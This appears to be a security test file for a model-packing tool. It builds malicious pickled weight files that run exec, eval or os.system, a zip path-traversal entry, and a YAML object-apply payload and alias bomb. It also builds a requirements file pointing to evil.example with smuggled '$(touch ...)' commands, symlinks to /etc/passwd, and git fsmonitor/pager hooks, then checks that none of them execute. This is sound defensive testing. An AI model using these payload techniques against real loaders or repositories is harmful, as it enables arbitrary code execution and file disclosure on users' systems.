"""Faults 35 and 36: weights and repositories of strangers, made to run code or never to be read to the end."""

from __future__ import annotations

import contextlib
import os
import shutil
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch
from command_line import Ask, command
from torch import nn

from lensmith.bundle.bundle import load_model

pytestmark = pytest.mark.skipif(os.name != "posix", reason="the canaries are written by a POSIX shell")

NET = """
from torch import nn

class Net(nn.Sequential):
    def __init__(self):
        super().__init__(nn.Flatten(), nn.Linear(3 * 16 * 16, 2))
"""
WORDS = ("--model", "net.py:Net", "--classes", "cat,dog", "--size", "16")


class Calls:
    """Pickles as a call."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> Any:
        return self.call


def layers() -> nn.Sequential:
    return nn.Sequential(nn.Flatten(), nn.Linear(3 * 16 * 16, 2))


def hostile(place: Path, canary: Path) -> dict[str, str]:
    """Writes files that write `canary` when they are unpickled: name -> what is said of each."""
    write = f"open({str(canary)!r}, 'w').close()"
    noted, hooked = layers(), layers()
    noted.note = Calls(eval, write)
    hooked._forward_hooks[0] = Calls(eval, write)
    files = {
        "bare.pth": Calls(exec, write),
        "shell.pth": {"state_dict": layers().state_dict(), "epoch": Calls(os.system, f"touch {canary}")},
        "nested.pth": {"state_dict": {"1.weight": [Calls(list, [Calls(exec, write)])]}},
        "really-a-pickle.safetensors": Calls(os.system, f"touch {canary}"),
        "noted.pth": noted,
        "hooked.pth": hooked,
        "beside.pth": {"state_dict": layers().state_dict(), "epoch": Calls(eval, write)},
    }
    for name, content in files.items():
        torch.save(content, place / name)
    with zipfile.ZipFile(place / "tricks.pth", "w") as archive:
        with zipfile.ZipFile(place / "bare.pth") as bare:
            for member in bare.namelist():
                archive.writestr(member, bare.read(member))
        archive.writestr(f"bare/../../../..{canary}", b"x")
    named = dict.fromkeys(("bare.pth", "tricks.pth"), "builtins.exec") | {
        "nested.pth": "'1.weight' is a list"
    }
    named |= dict.fromkeys(("shell.pth", "really-a-pickle.safetensors"), f"{os.system.__module__}.system")
    return named | dict.fromkeys(("noted.pth", "hooked.pth", "beside.pth"), "builtins.eval")


@pytest.mark.fault(35)
def test_a_weights_file_runs_nothing_and_what_it_names_is_told(ask: Ask, tmp_path: Path) -> None:
    """Refused, or its tensors come out; then it is shown that each bites."""
    (tmp_path / "net.py").write_text(NET)
    canary = tmp_path / "canary"
    named = hostile(tmp_path, canary)
    for name, calls in named.items():
        done = ask("pack", name, *WORDS, "-o", f"{Path(name).stem}.lens")
        if calls == "builtins.eval":
            assert done.code == 0, (name, done.err)
        else:
            done.refused(5, name, calls)
        assert not canary.exists(), name
    packed = sorted(path.name for path in tmp_path.glob("*.lens"))
    assert packed == ["beside.lens", "hooked.lens", "noted.lens"]
    names = load_model(tmp_path / "noted.lens").facts.provenance["weights"]["pickled_names"]
    assert "builtins.eval" in names
    for name in named:
        shutil.copy(tmp_path / name, tmp_path / "bites.pt")  # torch goes by the suffix too
        with contextlib.suppress(Exception):
            torch.load(tmp_path / "bites.pt", weights_only=False)
        assert canary.exists(), name
        canary.unlink()


@pytest.mark.fault(36)
def test_a_repository_made_to_be_read_for_ever_or_to_be_run_is_read_and_not_run(tmp_path: Path) -> None:
    """From within it, as who has cloned it and gone there."""
    root, canary = tmp_path / "repository", tmp_path / "canary"
    root.mkdir()
    python = f"open({str(canary)!r}, 'w')\n"
    for name in (
        "setup.py",
        "conftest.py",
        "sitecustomize.py",
        "train.py",
        "yaml.py",
        "typer.py",
        "numpy.py",
    ):
        (root / name).write_text(python)
    bomb = "a: &a [x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(9)
    )
    files = {
        "environment.yml": f"!!python/object/apply:os.system ['touch {canary}']\n",
        "conda.yml": bomb,
        "deep.json": "[" * 200_000,
        "deep.toml": "a = " + "[" * 100_000,
        "deep.py": "(" * 100_000,
        "large.py": "x = 1\n" * 400_000,
        "requirements.txt": (
            f"--extra-index-url http://evil.example/simple\n-e git+ssh://evil.example/x.git\n"
            f"numpy; os_name == '$(touch {canary})'\n-r /etc/passwd\n"
        ),
        "README.md": f"```\npython train.py $(touch {canary})\n```\n" + "accuracy " * 20_000,
    }
    for name, text in files.items():
        (root / name).write_text(text)
    (root / "loop").symlink_to(root)
    (root / "secret.py").symlink_to("/etc/passwd")
    os.mkfifo(root / "pipe.py")
    hooks = root / ".git/hooks"
    hooks.mkdir(parents=True)
    (root / ".git/HEAD").write_text("ref: refs/heads/main\n")
    (root / ".git/config").write_text(f"[core]\n\tfsmonitor = touch {canary}\n\tpager = touch {canary}\n")
    before = {path: path.lstat().st_mtime_ns for path in root.rglob("*")}
    path = os.pathsep.join(filter(None, sys.path))
    done = command("reproduce", ".", "--to", "read", "--json", cwd=root, PYTHONPATH=path)
    assert done.code in (0, 1) and "Traceback" not in done.err, done.err
    assert not canary.exists() and "root:" not in done.out
    skipped = done.json["reading"]["skipped"]
    assert {"environment.yml", "large.py", "loop", "secret.py", "pipe.py"} <= set(skipped), skipped
    assert {path: path.lstat().st_mtime_ns for path in root.rglob("*")} == before
